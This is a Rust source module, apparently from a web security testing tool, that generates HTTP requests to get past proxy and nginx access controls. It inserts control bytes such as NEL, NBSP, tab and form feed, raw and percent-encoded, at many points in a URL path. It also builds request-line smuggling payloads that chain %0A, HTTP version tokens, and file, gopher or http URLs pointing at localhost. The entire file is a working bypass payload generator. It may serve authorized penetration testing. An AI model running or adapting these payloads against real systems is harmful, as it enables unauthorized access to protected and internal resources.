//! Control-byte injection and request-line smuggling.
//!
//! The injection set is the union of bytes three frameworks are known to
//! mis-handle between proxy and origin parsing. Each byte is tried raw and
//! percent-encoded at every structurally interesting position. A second
//! family stacks an HTTP version token and an absolute URL behind `%0A`,
//! probing parsers that treat the encoded line break as a request-line
//! terminator. Raw `\n` never appears in a URI: it would terminate the
//! request line for real instead of after decoding.

use gatecrash_payload::RequestDescriptor;

use crate::{
    context::{DedupKey, Emitter, GenerationContext},
    pathutil,
};

const NAME: &str = "nginx_bypasses";

/// Bytes with documented parser disagreements (NEL, NBSP, the C0 separator
/// block, FF, VT, TAB).
const INJECTION_BYTES: &[u8] = &[0x85, 0xA0, 0x1F, 0x1E, 0x1D, 0x1C, 0x0C, 0x0B, 0x09];

const HTTP_VERSIONS: &[&str] = &["HTTP/1.1", "HTTP/1.0", "HTTP/2.0", "HTTP/0.9"];
const SMUGGLE_SCHEMES: &[&str] = &["http", "https", "file", "gopher"];
const ALT_HOSTS: &[&str] = &["localhost", "localhost:80", "127.0.0.1", "127.0.0.1:80"];

/// All injection strings: raw and percent-encoded per byte, the literal
/// semicolon pair, and `%0A` (encoded only).
fn injections() -> Vec<String> {
    let mut out = Vec::with_capacity(INJECTION_BYTES.len() * 2 + 3);
    for &byte in INJECTION_BYTES {
        out.push((byte as char).to_string());
        out.push(format!("%{byte:02X}"));
    }
    out.push(";".to_owned());
    out.push("%3B".to_owned());
    out.push("%0A".to_owned());
    out
}

pub(crate) fn generate(ctx: &GenerationContext) -> Vec<RequestDescriptor> {
    let mut emitter = Emitter::new(DedupKey::Wire);
    let path = ctx.target.path_or_root();
    let segments = pathutil::segments(path);

    for injection in injections() {
        ctx.emit_path(&mut emitter, NAME, &format!("{path}{injection}"));
        ctx.emit_path(&mut emitter, NAME, &format!("{path}/{injection}"));
        ctx.emit_path(&mut emitter, NAME, &format!("{injection}{path}"));

        for (index, &(start, end)) in segments.iter().enumerate() {
            ctx.emit_path(&mut emitter, NAME, &pathutil::insert_at(path, end, &injection));
            if index > 0 {
                ctx.emit_path(&mut emitter, NAME, &pathutil::insert_at(path, start, &injection));
            }
            let first_len = path[start..end].chars().next().map_or(0, char::len_utf8);
            if first_len > 0 {
                ctx.emit_path(
                    &mut emitter,
                    NAME,
                    &pathutil::insert_at(path, start + first_len, &injection),
                );
            }
        }
    }

    for version in HTTP_VERSIONS {
        for scheme in SMUGGLE_SCHEMES {
            for alt_host in ALT_HOSTS {
                let smuggled = format!("{path}%0A{version}%0A{scheme}://{alt_host}{path}");
                let raw_uri = format!("{smuggled}{}", ctx.target.query);

                emitter.push(ctx.descriptor(NAME, raw_uri.clone()));

                let mut with_host = ctx.descriptor(NAME, raw_uri);
                with_host.push_header("Host", (*alt_host).to_owned());
                emitter.push(with_host);
            }
        }
    }

    emitter.finish()
}
